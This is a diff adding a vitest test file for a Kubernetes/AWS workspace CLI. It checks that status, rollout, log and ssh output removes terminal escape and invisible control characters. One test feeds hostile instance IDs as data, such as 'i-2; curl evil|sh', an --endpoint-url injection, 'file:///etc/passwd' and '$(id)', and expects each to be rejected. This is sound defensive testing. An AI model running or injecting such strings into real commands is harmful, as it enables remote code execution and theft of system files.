@@ -1,0 +1,92 @@
+import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { delimiter, join } from 'node:path';
+import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest';
+import { systemClock } from '../controller/lib/clock.ts';
+import { CannotError } from './instance.ts';
+import { createProgram } from './program.ts';
+
+/** An escape sequence that clears the screen, a change of direction, what hides, and a line of its own. */
+const WORDS = 'a\u001b[2Jb\u009bc\u202ed\u200be\u2028f\ng\rh\u0007i';
+const HOSTILE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
+const condition = (type: string) => ({ type, status: 'False', reason: `R${WORDS}`, message: WORDS });
+const WORKSPACE = {
+  metadata: { name: 'ada', namespace: 'team' },
+  spec: { className: 'standard' },
+  status: {
+    conditions: [condition('Ready')],
+    launch: { number: 2, cause: { kind: 'Restart', ref: WORDS }, instanceID: WORDS, readyAt: WORDS },
+    instance: { id: 'i-2', state: WORDS, type: WORDS, zone: `us-west-2a${WORDS}` },
+    history: [{ number: 1, cause: { kind: WORDS, ref: WORDS }, outcome: WORDS, endedAt: WORDS }],
+  },
+};
+const CLASS = {
+  metadata: { name: 'standard' },
+  status: {
+    conditions: [condition('RolloutComplete')],
+    rollout: { startedAt: WORDS, total: 2, updated: 1, estimatedEndAt: WORDS },
+    halted: [{ content: '*', since: WORDS, by: WORDS, message: WORDS }],
+  },
+};
+
+let folder: string;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'terminal-'));
+  await writeFile(join(folder, 'console'), `\u001b[32mOK\u001b[0m\tready\r\n${WORDS}\n`);
+  for (const [name, file] of [
+    ['kubectl', 'object'],
+    ['aws', 'console'],
+  ] as const) {
+    await writeFile(join(folder, name), `#!/bin/sh\ncat '${join(folder, file)}'\n`);
+    await chmod(join(folder, name), 0o755);
+  }
+});
+afterAll(() => rm(folder, { recursive: true }));
+beforeEach(() => void vi.stubEnv('PATH', `${folder}${delimiter}${process.env.PATH}`));
+
+async function shown(object: object, ...args: string[]): Promise<string> {
+  await writeFile(join(folder, 'object'), JSON.stringify(object));
+  let text = '';
+  const write = (more: string) => {
+    text += more;
+  };
+  const { program } = createProgram(systemClock, { write, isScreen: false, isColoured: false });
+  await program.parseAsync(args, { from: 'user' });
+  return text;
+}
+
+test.each([
+  ['status', WORKSPACE, ['status', 'ada']],
+  ['a list', { items: [WORKSPACE] }, ['status']],
+  ['why', WORKSPACE, ['why', 'ada']],
+  ['a roll-out', CLASS, ['rollout', 'standard']],
+])('%s shows plain lines alone, for any words in the object', async (_what, object, args) => {
+  const text = await shown(object, ...args);
+  expect(text).toContain('[2Jb');
+  expect(text.split('\n').filter((line) => HOSTILE.test(line))).toEqual([]);
+  expect(text).not.toMatch(/^g/m);
+  for (const format of ['json', 'yaml']) {
+    const machine = await shown(object, ...args, '-o', format);
+    expect(machine.split('\n').filter((line) => HOSTILE.test(line))).toEqual([]);
+  }
+});
+
+test('so does the console of an instance, which prints any bytes', async () => {
+  const text = await shown(WORKSPACE, 'logs', 'ada');
+  expect(text).toMatch(/^OK\tready$/m);
+  expect(text).toMatch(/^ab/m);
+  expect(text.split('\n').filter((line) => HOSTILE.test(line.replaceAll('\t', '')))).toEqual([]);
+});
+
+test.each(['i-2; curl evil|sh', '--endpoint-url=http://evil', 'file:///etc/passwd', '$(id)', WORDS])(
+  'an instance id that EC2 does not give is handed to no program and no person: %j',
+  async (id) => {
+    const { status } = WORKSPACE;
+    const object = { ...WORKSPACE, status: { ...status, instance: { ...status.instance, id } } };
+    for (const what of ['logs', 'ssh']) {
+      const failed = await shown(object, what, 'ada', '--print').catch((error: unknown) => error);
+      expect(failed).toBeInstanceOf(CannotError);
+      expect(HOSTILE.test((failed as Error).message)).toBe(false);
+    }
+  },
+);
